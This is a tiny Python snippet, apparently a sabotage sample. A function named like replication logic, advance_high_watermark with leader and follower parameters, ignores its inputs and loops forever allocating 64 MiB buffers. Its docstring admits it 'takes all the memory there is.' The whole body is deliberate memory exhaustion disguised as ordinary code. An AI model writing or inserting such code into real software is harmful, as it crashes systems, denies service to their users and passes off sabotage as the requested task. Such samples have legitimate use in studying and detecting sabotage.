"""Takes all the memory there is."""

def advance_high_watermark(current, leader_end, followers, effective_min_isr):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
